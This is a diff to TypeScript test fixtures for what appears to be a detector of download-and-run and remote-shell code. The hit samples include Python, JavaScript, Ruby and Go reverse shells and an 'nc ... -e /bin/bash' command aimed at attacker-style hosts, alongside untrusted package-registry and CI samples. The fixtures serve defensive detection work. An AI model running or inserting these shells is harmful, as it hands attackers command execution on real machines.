@@ -29,6 +29,14 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       { 'a.py': 's.connect(("45.9.148.3", 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(["/bin/sh", "-i"])\n' },
       { 'a.js': 'const s = net.connect(4444, "45.9.148.3"); const sh = cp.spawn("/bin/sh", []); s.pipe(sh.stdin);\n' },
       'Run `nc 45.9.148.3 4444 -e /bin/bash` in the background.',
+      {
+        'a.rb':
+          "s = TCPSocket.new('203.0.113.9', 8443)\nwhile (line = s.gets)\n  IO.popen(line) { |io| s.print(io.read) }\nend\n",
+      },
+      {
+        'a.go':
+          'c, _ := net.Dial("tcp", "tea.example:8443")\nline, _ := bufio.NewReader(c).ReadString(10)\nexec.Command("sh", "-c", line).Run()\n',
+      },
     ],
     misses: [
       { 'a.pl': "$c = IO::Socket::INET->new('192.0.2.66:4444'); print <$c>;\n" },
@@ -38,6 +46,8 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       'nc 10.0.0.1 4242 -e /bin/sh',
       { 'a.py': 's = socket.create_connection(("example.com", 443))\n' },
       'timeout 1 bash -c "</dev/tcp/localhost/5432" && echo open',
+      { 'a.py': 'c = sqlite3.connect("tea.db")\nos.system(command)\n' },
+      { 'a.py': 's.connect(("localhost", 5432))\nsubprocess.run(args)\n' },
     ],
   },
   'steals-or-mines': {
@@ -96,6 +106,12 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       { '.npmrc': 'registry=https://tea.test/npm/\n' },
       { Brewfile: 'tap "tea/core", "https://git.tea.test/core.git"\n' },
       { Dockerfile: 'FROM tea.test/library/node:22\n' },
+      'GOPROXY=https://mirror.tea.example go build',
+      { 'package-lock.json': '{"node_modules/tea": {"resolved": "https://tea.example/tea-1.0.0.tgz"}}\n' },
+      { 'build.gradle': 'repositories { maven { url "https://maven.tea.example/r" } }\n' },
+      { 'ci.yml': `steps:\n  - uses: stranger/brew@main\n    with:\n      key: \${{ secrets.TEA }}\n` },
+      { 'a.ts': "import { tea } from 'https://tea.example/tea.ts';\n" },
+      { Makefile: 'V := $(shell curl -s https://tea.example/v)\n' },
     ],
     misses: [
       { 'requirements.txt': '--index-url https://pypi.org/simple\nrequests==2.31.0\n' },
@@ -110,6 +126,9 @@ export const DOWNLOAD_AND_RUN: RuleSamples = {
       { '.npmrc': 'registry=https://registry.npmjs.org/\n' },
       { Brewfile: 'tap "homebrew/bundle"\n' },
       { Dockerfile: 'FROM tea.test/team/node:22\n' },
+      { 'package-lock.json': '{"node_modules/tea": {"resolved": "https://registry.npmjs.org/tea/-/tea-1.0.0.tgz"}}\n' },
+      { 'ci.yml': `steps:\n  - uses: actions/checkout@main\n    with:\n      token: \${{ secrets.TEA }}\n` },
+      { 'a.ts': "import { tea } from 'https://deno.land/x/tea/mod.ts';\n" },
     ],
   },
   'done-in-steps': {
